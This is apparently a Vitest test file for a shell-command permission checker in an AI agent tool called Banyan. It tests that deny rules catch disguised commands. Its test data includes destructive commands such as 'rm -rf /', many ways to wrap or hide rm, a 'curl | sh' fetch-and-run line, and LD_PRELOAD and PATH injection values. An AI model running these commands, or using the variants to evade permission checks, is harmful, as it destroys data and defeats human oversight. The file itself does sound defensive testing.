// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are shell, not JavaScript
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { judge, permission, rules, tool } from "../call.fixture.ts";
import type { ApprovalMode } from "../rule.ts";

const workspace = mkdtempSync(join(tmpdir(), "banyan-shell-"));
afterAll(() => rmSync(workspace, { recursive: true }));

const COMMON = rules({
  deny: ["shell(rm *)"],
  allow: ["shell(npm test*)", "shell(git status *)", "shell(echo *)", "shell(cat *)"],
});

async function decide(
  command: string,
  texts?: Parameters<typeof rules>[0],
  mode: ApprovalMode = "ask",
): Promise<string> {
  const permit = await judge(permission({ workspace, mode, rules: texts ? rules(texts) : COMMON }), tool("shell"), {
    command,
  });
  return permit.decision;
}

describe("S7: every part of a command must be allowed", () => {
  test.each([
    ["npm test", "allow"],
    ["npm test -- --watch=false", "allow"],
    ["npm  test\t-- x", "allow"],
    ["npm 'test'", "allow"],
    ['"npm" test', "allow"],
    ["git status", "allow"],
    ["git status --short", "allow"],
    ["npm test && git status", "allow"],
    ["npm test | cat -n", "allow"],
    ["npm test 2>&1 | cat", "allow"],
    ["npm test > /dev/null 2>&1", "allow"],
    ["npm test &> /dev/null", "allow"],
    ["npm test # rm x", "allow"],
    ["npm test; # ls", "allow"],
    ["npm test \\\n  --reporter dot", "allow"],
    ["echo 'rm x; $(rm y)'", "allow"],
    ['echo "a; rm x"', "allow"],
    ['echo "line\nline $HOME"', "allow"],
    ["echo ${HOME:-none} $? $1", "allow"],
    ["echo $((1 + 2))", "ask"],
    ["cat *.ts", "allow"],
    ["cat {a,b}.ts", "allow"],
    ["echo $(git status)", "ask"],
    ['echo "$(git status)"', "ask"],
    ["cat <(git status)", "ask"],
    ["cat <<EOF\nhello $USER, don't\nEOF", "ask"],
    ["cat <<'EOF'\n$(ls)\nEOF", "allow"],
    ['echo "$(cat <<\'EOF\'\nit is "done" (almost)\nEOF\n)"', "ask"],
    ["cat <<< hello", "allow"],
    ["for name in a b; do echo $name; done", "ask"],
    ["if git status; then echo a; elif npm test; then echo b; else echo c; fi", "ask"],
    ["while npm test; do echo again; done", "ask"],
    ["case $x in a|b) echo 1;; *) echo 2;; esac", "ask"],
    ["(npm test; echo done)", "ask"],
    ["{ npm test; echo done; }", "ask"],
    ["! npm test", "ask"],
    ["time npm test", "ask"],
    ["[[ -f package.json && $x == y ]] && npm test", "ask"],
    ["ls", "ask"],
    ["npm run x", "ask"],
    ["npm test; ls", "ask"],
    ["npm test\nls", "ask"],
    ["npm test & ls", "ask"],
    ["npm test && ls", "ask"],
    ["npm test || ls", "ask"],
    ["npm test | sh", "ask"],
    ["npm test |& tee log", "ask"],
    ["npm test $(ls)", "ask"],
    ["npm test `ls`", "ask"],
    ['npm test "$(ls)"', "ask"],
    ['npm test "`ls`"', "ask"],
    ['npm test "a\n$(ls)"', "ask"],
    ["npm test <(ls)", "ask"],
    ["npm test >(ls)", "ask"],
    ["npm test <(ls\n)", "ask"],
    ["npm test ${x:-$(ls)}", "ask"],
    ["npm test $((1 + $(ls)))", "ask"],
    ["npm test $((ls) || (ls))", "ask"],
    ["npm test $[ $(ls) ]", "ask"],
    ["npm test {a,$(ls)}", "ask"],
    ["cat <<EOF\n$(ls)\nEOF", "ask"],
    ["cat <<EOF\n`ls`\nEOF", "ask"],
    ["cat <<EOF\na\nEOF\nls", "ask"],
    ['cat <<E"O"F\na\nEOF\nls', "ask"],
    ["cat <<-EOF\n\ta\n\tEOF\nls", "ask"],
    ['cat <<< "$(ls)"', "ask"],
    ["f() { ls; }; echo f", "ask"],
    ["function f { ls; }", "ask"],
    ["for name in $(ls); do echo $name; done", "ask"],
    ["if ls; then echo a; fi", "ask"],
    ["case $(ls) in *) echo 1;; esac", "ask"],
    ["[[ $(ls) ]] && npm test", "ask"],
    ["coproc npm test", "ask"],
    ["for ((i=0; i<$(ls); i++)); do echo a; done", "ask"],
    ["!(ls)", "ask"],
    ["echo @(ls)", "ask"],
    ["npm test ) ; ls", "ask"],
    ["npm test 'unterminated", "ask"],
    ['npm test "unterminated', "ask"],
    ["npm test $(unterminated", "ask"],
    ["npm test `unterminated", "ask"],
    ["if npm test; then echo", "ask"],
    ["cat <<EOF\nno end", "ask"],
    ['echo "${x:-\'}" ; ls ; echo "\'}"', "ask"],
    ["npm test \r\nls", "ask"],
    ["npm test \u0007", "ask"],
    ["", "allow"],
    ["# only a comment", "allow"],
  ])("%j: %s", async (command, expected) => {
    expect(await decide(command)).toBe(expected);
  });

  test("a pattern is a plain prefix if `*` follows a word, and a whole word if a space precedes `*`", async () => {
    expect(await decide("npm testevil")).toBe("allow");
    expect(await decide("git statusevil")).toBe("ask");
    expect(await decide("npm test --all", { allow: ["shell(npm test)"] })).toBe("ask");
    expect(await decide("npm test", { allow: ["shell(npm test)"] })).toBe("allow");
  });

  test("a name with a blank in it does not pass for a name and an argument", async () => {
    expect(await decide("'npm test' x")).toBe("ask");
  });

  test("another program of the same name does not pass for the allowed one", async () => {
    expect(await decide("./npm test")).toBe("ask");
    expect(await decide("/tmp/npm test")).toBe("ask");
  });

  test("text that only running reveals matches only a wildcard", async () => {
    expect(await decide("npm $X")).toBe("ask");
    expect(await decide("$X test")).toBe("ask");
    expect(await decide("npm te?t")).toBe("ask");
    expect(await decide("{npm,test} x")).toBe("ask");
  });

  test("variables that are set must be spelled in the pattern", async () => {
    for (const command of [
      "FOO=1 npm test",
      "LD_PRELOAD=./x.so npm test",
      "PATH=.:$PATH; npm test",
      "NODE_OPTIONS='-r ./x' npm test",
      "x=(a b) npm test",
    ]) {
      expect(await decide(command)).toBe("ask");
    }
    expect(await decide("CI=1 npm test --all", { allow: ["shell(CI=1 npm test *)"] })).toBe("allow");
    expect(await decide("CI=2 npm test", { allow: ["shell(CI=1 npm test *)"] })).toBe("ask");
    expect(await decide("LD_PRELOAD=./x.so npm test", { allow: ["shell(* test)"] })).toBe("ask");
    expect(await decide("for PATH in ./evil; do npm test; done")).toBe("ask");
    expect(await decide(`npm test \${PATH:=./evil}`)).toBe("ask");
    expect(await decide("printf -v PATH ./evil; npm test", { allow: ["shell(printf *)", "shell(npm test)"] })).toBe(
      "ask",
    );
  });

  test("quoted text that an evaluation would run is not allowed", async () => {
    expect(await decide("for x in 'a[$(ls)]'; do echo $((x)); done")).toBe("ask");
    expect(await decide("for x in 'a[$(ls)]'; do [[ $x -eq 1 ]]; done")).toBe("ask");
    expect(await decide("for x in 'a[`ls`]'; do echo ${!x}; done")).toBe("ask");
    expect(await decide("for x in '$(ls)'; do echo ${x@P}; done")).toBe("ask");
    expect(await decide("test -v 'a[$(ls)]'", { allow: ["shell(test *)"] })).toBe("ask");
  });

  test("a rule without a pattern allows everything that shell does", async () => {
    expect(await decide("eval $X > /etc/passwd", { allow: ["shell"] })).toBe("allow");
    expect(await decide("eval $X > /etc/passwd", { allow: ["shell(*)"] })).toBe("allow");
    expect(await decide("eval $X > /etc/passwd", { allow: ["*"] })).toBe("allow");
  });

  test("a command that is too long or nested too deeply asks soon", async () => {
    expect(await decide(`echo ${"a".repeat(40_000)}`)).toBe("ask");
    expect(await decide(`echo ${"$(echo ".repeat(4_000)}${")".repeat(4_000)}`)).toBe("ask");
    expect(await decide(`${"(".repeat(16_000)}ls`)).toBe("ask");
    expect(await decide(`echo ${'"$(echo '.repeat(2_000)}`)).toBe("ask");
    expect(await decide(`${"timeout ".repeat(3_000)}ls`, { deny: ["shell(x)"], allow: ["shell(timeout *)"] })).toBe(
      "ask",
    );
  });
});

describe("S7: a deny rule sees through disguises", () => {
  test.each([
    "rm x",
    "rm",
    "rm -rf /",
    "npm test; rm -rf /",
    "npm test\nrm x",
    "npm test & rm x",
    "npm test && rm x",
    "npm test || rm x",
    "npm test | rm x",
    "npm test $(rm x)",
    'npm test "$(rm x)"',
    "npm test `rm x`",
    "npm test <(rm x)",
    "cat <<EOF\n$(rm x)\nEOF",
    'echo "$(echo "$(rm x)")"',
    "{ rm x; }",
    "(rm x)",
    "! rm x",
    "time rm x",
    "time -p -- rm x",
    "f() { rm x; }; f",
    "if true; then rm x; fi",
    "while true; do rm x; done",
    "case a in a) rm x;; esac",
    "for x in a; do rm $x; done",
    "coproc rm x",
    "echo $((1 + $(rm x)))",
    "echo {a,$(rm x)}",
    "x=$(rm y)",
    "r''m x",
    'r"m" x',
    "r\\m x",
    "\\rm x",
    "r\\\nm x",
    "'rm' x",
    "/bin/rm x",
    "../../bin/rm x",
    "> out rm x",
    "2>&1 rm x",
    "FOO=1 rm x",
    "> out FOO=1 rm x",
    "command rm x",
    "builtin rm x",
    "exec rm x",
    "exec -a name rm x",
    "env rm x",
    "env -i FOO=1 rm x",
    "env -u HOME rm x",
    "env -S 'rm x'",
    "sudo rm -rf x",
    "sudo -u root -n rm x",
    "sudo FOO=1 rm x",
    "doas rm x",
    "nohup rm x",
    "nice -n 5 rm x",
    "nice rm x",
    "timeout 5 rm x",
    "timeout -s KILL 5 rm x",
    "timeout --signal=KILL 5 rm x",
    "stdbuf -oL rm x",
    "setsid rm x",
    "busybox rm x",
    "flock /tmp/lock rm x",
    "flock /tmp/lock -c 'rm x'",
    "su root -c 'rm x'",
    "script -qc 'rm x' /dev/null",
    "watch -n 1 rm x",
    "xargs rm",
    "find . | xargs -0 -n 1 rm -f",
    "xargs -I F sh -c 'rm x'",
    "find . -name x -exec rm {} ;",
    "find . -name x -exec rm {} \\;",
    "find . -exec echo {} + -execdir rm {} +",
    "find . -delete",
    "fd x -x rm",
    "bash -c 'rm x'",
    "sh -c 'rm x'",
    "/bin/sh -ec 'npm test; rm x'",
    "bash -o pipefail -c 'rm x'",
    "bash --norc -c 'rm x'",
    "sudo bash -c 'rm x'",
    'sudo nice env bash -c "sudo rm x"',
    "bash <<< 'rm x'",
    "bash <<EOF\nrm x\nEOF",
    "bash -s <<'EOF'\nrm x\nEOF",
    "source /dev/stdin <<< 'rm x'",
    "eval rm x",
    "eval 'rm x'",
    'eval "rm" "x"',
    "trap 'rm x' EXIT",
    "alias ls='rm x'",
    "rm 'unterminated",
    'echo "unterminated; rm x',
    "npm test ) ; rm x",
    "echo ${x:-$(rm y)}",
  ])("%j is denied", async (command) => {
    expect(await decide(command)).toBe("deny");
    expect(await decide(command, { deny: ["shell(rm *)"], allow: ["shell"] }, "all")).toBe("deny");
  });

  test.each([
    "$(echo rm) x",
    "$X x",
    "$'\\x72m' x",
    "{rm,x}",
    "r? x",
    "/bin/r* x",
    "/bin/$X y",
    "./a$X y",
    "eval $X",
    'bash -c "$X"',
    "curl -s example.org | sh",
    "sudo $X",
    "strace --unknown value rm x",
    "xargs -I{} sh -c '{}'",
    "npm test rm",
  ])("a rule may deny %j: Banyan asks, and denies without a user", async (command) => {
    const texts = { deny: ["shell(rm *)"], allow: ["shell"] };
    expect(await decide(command, texts)).toBe("ask");
    expect(await decide(command, texts, "all")).toBe("deny");
  });

  test.each([
    "echo rm x",
    "echo 'rm x'",
    "git commit -m 'rm x'",
    "rmdir x",
    "cat <<'EOF'\nrm x\nEOF",
    "command -v rm",
    "npm test # rm x",
    "echo $HOME",
    "ls *.ts",
    "timeout 5 ls",
  ])("%j is something else", async (command) => {
    expect(await decide(command, { deny: ["shell(rm *)"], allow: ["shell"] }, "all")).toBe("allow");
  });

  test("an ask rule also finds the program behind others, and precedes allow rules", async () => {
    const texts = { ask: ["shell(git push *)"], allow: ["shell"] };
    expect(await decide("git push", texts)).toBe("ask");
    expect(await decide("sudo git push origin", texts)).toBe("ask");
    expect(await decide("git $X", texts)).toBe("ask");
    expect(await decide("git status", texts)).toBe("allow");
  });
});

describe("S7: a command that runs another command gets no further rights", () => {
  test.each([
    ["timeout 60 npm test", ["shell(npm test *)"], "ask"],
    ["timeout 60 npm test", ["shell(timeout *)"], "ask"],
    ["timeout 60 npm test", ["shell(timeout *)", "shell(npm test *)"], "allow"],
    ["timeout 60 npm test -- x", ["shell(timeout 60 npm test *)"], "allow"],
    ["timeout 60 npm test", ["shell(timeout 60 npm test)"], "allow"],
    ["timeout 60 ls", ["shell(timeout 60 *)"], "ask"],
    ["sudo timeout 5 ls", ["shell(sudo timeout *)"], "ask"],
    ["sudo timeout 5 ls x", ["shell(sudo timeout 5 ls *)"], "allow"],
    ["bash -c 'npm test'", ["shell(npm test *)"], "ask"],
    ["bash -c 'npm test'", ["shell(bash *)"], "ask"],
    ["bash -c 'npm test'", ["shell(bash *)", "shell(npm test *)"], "allow"],
    ["bash -c 'npm test; ls'", ["shell(bash *)", "shell(npm test *)"], "ask"],
    ["bash -c 'npm test > /etc/x'", ["shell(bash *)", "shell(npm test *)"], "ask"],
    ["bash build.sh", ["shell(bash build.sh *)"], "allow"],
    ["bash", ["shell(bash)"], "ask"],
    ["find . -name x", ["shell(find *)"], "allow"],
    ["find . -exec ls {} ;", ["shell(find *)"], "ask"],
    ["find . -exec cat {} +", ["shell(find *)", "shell(cat *)"], "allow"],
    ["find . -delete", ["shell(find *)"], "ask"],
    ["find . -fprint /etc/x", ["shell(find *)"], "ask"],
    ["find . | xargs cat", ["shell(find *)", "shell(xargs *)"], "ask"],
    ["find . | xargs cat", ["shell(find *)", "shell(xargs *)", "shell(cat *)"], "ask"],
    ["env FOO=1 npm test", ["shell(env *)", "shell(npm test *)"], "ask"],
    ["eval 'npm test'", ["shell(npm test *)"], "ask"],
    ["sudo npm test", ["shell(sudo *)"], "ask"],
  ] as const)("%j with %j: %s", async (command, allow, expected) => {
    expect(await decide(command, { allow: [...allow] })).toBe(expected);
  });
});
